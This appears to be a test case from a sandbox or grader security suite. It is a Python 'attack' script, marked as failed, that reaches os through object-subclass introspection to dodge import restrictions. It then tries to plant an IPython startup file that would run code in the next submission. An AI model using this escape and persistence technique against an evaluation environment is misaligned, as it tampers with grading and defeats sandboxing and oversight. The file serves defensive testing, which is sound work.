# /// attack
# rows = [47]
# title = "leave an IPython startup file for the next submission"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
homes = [os.path.expanduser("~"), "/root", "/home", "HOME"]
for home in homes:
    folder = home + "/.ipython/profile_default/startup"
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/attack-left.py", "w").write("print(10.0)")
    except OSError:
        pass
